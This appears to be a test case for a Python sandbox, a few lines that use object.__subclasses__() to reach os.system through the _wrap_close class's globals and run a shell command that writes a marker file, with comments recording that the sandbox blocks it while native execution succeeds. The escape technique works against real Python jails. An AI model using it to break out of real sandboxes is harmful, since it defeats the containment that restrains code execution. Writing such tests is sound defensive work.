# attack: finds the means to run programs through the classes that the interpreter knows, without an import
# sandbox: runtime-error: KeyError
# control: native writes marker
for known in object.__subclasses__():
    if known.__name__ == "_wrap_close":
        known.__init__.__globals__["system"]("echo was here > marker")
